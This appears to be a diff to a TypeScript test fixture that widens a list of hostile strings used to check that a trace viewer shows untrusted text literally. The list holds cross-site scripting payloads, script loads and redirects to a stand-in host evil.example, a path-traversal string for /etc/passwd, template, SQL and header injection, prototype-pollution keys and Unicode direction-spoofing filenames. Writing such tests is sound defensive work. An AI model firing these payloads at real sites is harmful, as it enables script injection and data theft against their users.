@@ -3,23 +3,63 @@ import { segment, span, type GeneratedTrace } from "./traffic.ts";
 
 /** Texts that try to be something else. Each must come out as the characters it is made of. */
 export const HOSTILE_TEXTS: readonly string[] = [
+  // Markup, in all the ways that run something.
   "<script>window.pwned=1</script>",
+  "</script><script src=//evil.example/x.js></script>",
+  "<ScRiPt\n>window.pwned=1</sCrIpT >",
   "<img src=x onerror=window.pwned=1>",
+  "<img src=//evil.example/pixel.png>",
   '"><svg/onload=window.pwned=1>',
+  "' autofocus onfocus=window.pwned=1 x='",
+  "<details open ontoggle=window.pwned=1>",
+  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+  "<object data=javascript:window.pwned=1></object><embed src=//evil.example/x>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
+  "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<form action=//evil.example/><input name=q autofocus>",
+  "<!--><template><b>bold</b></template>-->]]>",
+  // Addresses.
   "javascript:window.pwned=1",
-  "'; DROP TABLE spans; --",
+  "java\tscript:window.pwned=1//%0awindow.pwned=1",
+  "data:text/html,<script>window.pwned=1</script>",
+  "//evil.example/path",
+  "%00%0d%0aSet-Cookie:x=1",
+  "../../../etc/passwd",
+  // Styles, templates, JSON, queries.
   "</style><style>*{display:none}</style>",
+  "red;background:url(//evil.example/x.png);position:fixed",
   "{{constructor.constructor('window.pwned=1')()}}",
-  "${7*7}#{7*7}",
-  "&lt;b&gt;not bold&lt;/b&gt; &amp;",
+  "${7*7}#{7*7}<%= 7*7 %>[[${7*7}]]",
+  '","operation":"other","x":"\\"}]}',
+  "\\u003cscript\\u003ewindow.pwned\\u003d1\\u003c/script\\u003e",
+  "'; DROP TABLE spans; --",
+  "&lt;b&gt;not bold&lt;/b&gt; &amp; &#x202e; &nbsp;",
+  "line\u2028and\u2029paragraph",
+  // Names that objects have.
+  "__proto__",
+  "constructor",
+  "toString",
+  "hasOwnProperty",
+  "null",
+  "undefined",
+  "NaN",
+  // Characters that show something other than they say.
   "right\u202Eto\u202Cleft \u2066isolated\u2069",
+  "\u202a\u202b\u202d\u2067\u2068\u061c\u200e\u200f open ends",
+  "\u202Egnp.exe",
   "nul\u0001 bell\u0007 esc\u001b[31m tab\tnewline\nend",
-  "zero\u200bwidth\ufeff soft\u00adhyphen",
+  "nul\u0000inside",
+  "zero\u200bwidth\ufeff soft\u00adhyphen \u2060\u180e",
+  "tags \u{e0041}\u{e0042} and fillers \u3164\u115f\u2800",
   "שלום עולם مرحبا",
   "👩‍👩‍👧‍👦 e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
-  "__proto__",
-  "%00%0d%0aSet-Cookie:x=1",
+  `zalgo ${"\u0300\u0316\u0489".repeat(40)}`,
+  "\ufdfd\ufdfd\ufdfd\ufdfd\u{12031}",
+  " \u00a0\u3000 ",
+  // Long ones, with and without a place to break.
   "a".repeat(5000),
+  "many words ".repeat(400),
 ];
 
 export function hostileTrace(traceId: string, start: number): GeneratedTrace {
@@ -40,6 +80,18 @@ export function hostileTrace(traceId: string, start: number): GeneratedTrace {
         { key: "url", value: "javascript:window.pwned=1" },
       ],
       logs: [{ millis: start + i, data: [{ key: text(i + 4), value: text(i + 5) }] }],
+      refs: [
+        {
+          type: i % 2 === 0 ? "CrossProcess" : "CrossThread",
+          traceId: text(i + 6),
+          segmentId: text(i + 7),
+          spanId: i,
+          service: text(i + 8),
+          instance: text(i + 9),
+          endpoint: text(i + 10),
+          address: text(i + 11),
+        },
+      ],
     }),
   );
   spans.push(
